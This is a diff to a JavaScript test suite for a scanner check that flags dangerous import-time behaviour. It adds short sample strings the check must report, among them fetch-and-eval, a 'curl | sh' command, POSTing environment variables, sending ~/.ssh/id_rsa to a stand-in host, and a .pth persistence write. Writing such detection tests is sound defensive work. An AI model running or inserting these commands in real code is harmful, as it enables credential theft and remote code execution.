@@ -54,6 +54,10 @@ describe('checks/code/import-behaviour', () => {
     ],
     ['network-on-import', 'import requests\nLATEST = requests.get("https://host.invalid").json()'],
     ['persistence', 'import os\nopen(os.path.expanduser("~/.bashrc"), "a").write("x")'],
+    [
+      'persistence',
+      'import site\nopen(site.getsitepackages()[0] + "/x.pth", "w").write("import x")',
+    ],
     ['encoded-source', '# coding: utf-7\nprint(1)'],
   ])('reports %s in %j', async (rule, text) => {
     expect(await codeFindings(text, { check: 'import-behaviour' })).toContain(rule);
@@ -71,5 +75,35 @@ describe('checks/code/import-behaviour', () => {
     '# coding: latin-1\nprint(1)',
   ])('stays silent about %j', async (text) => {
     expect(await codeFindings(text, { check: 'import-behaviour' })).toEqual([]);
+  });
+
+  it.each([
+    ['hidden-code', "eval(atob('YWxlcnQoMSk='))"],
+    ['hidden-code', "new Function(Buffer.from('616c657274', 'hex').toString())()"],
+    ['hidden-code', "require(['vm'][0]).runInThisContext(String.fromCharCode(49, 43, 49))"],
+    ['download-and-run', "const r = await fetch('https://host.invalid/x'); eval(await r.text())"],
+    ['hostile-command', "require('child_process').execSync('curl -s https://host.invalid/i | sh')"],
+    [
+      'credentials-sent',
+      "fetch('https://host.invalid', { method: 'POST', body: JSON.stringify(process.env) })",
+    ],
+    [
+      'credentials-sent',
+      "import fs from 'fs'; import os from 'os'; import axios from 'axios'; axios.post('https://host.invalid', fs.readFileSync(os.homedir() + '/.ssh/id_rsa', 'utf8'))",
+    ],
+    ['command-on-import', "require('child_process').execSync('git describe')"],
+  ])('reports %s in JavaScript: %j', async (rule, text) => {
+    expect(await codeFindings(text, { check: 'import-behaviour', name: 'app.mjs' })).toContain(
+      rule,
+    );
+  });
+
+  it.each([
+    "const run = () => require('child_process').execSync('git describe')",
+    "setTimeout(() => fetch('https://host.invalid'), 10)",
+    "fetch('https://host.invalid', { headers: { a: process.env.KEY } }).then((r) => r.json()).then(show)",
+  ])('stays silent about JavaScript: %j', async (text) => {
+    const findings = await codeFindings(text, { check: 'import-behaviour', name: 'app.mjs' });
+    expect(findings.filter((rule) => rule !== 'network-on-import')).toEqual([]);
   });
 });
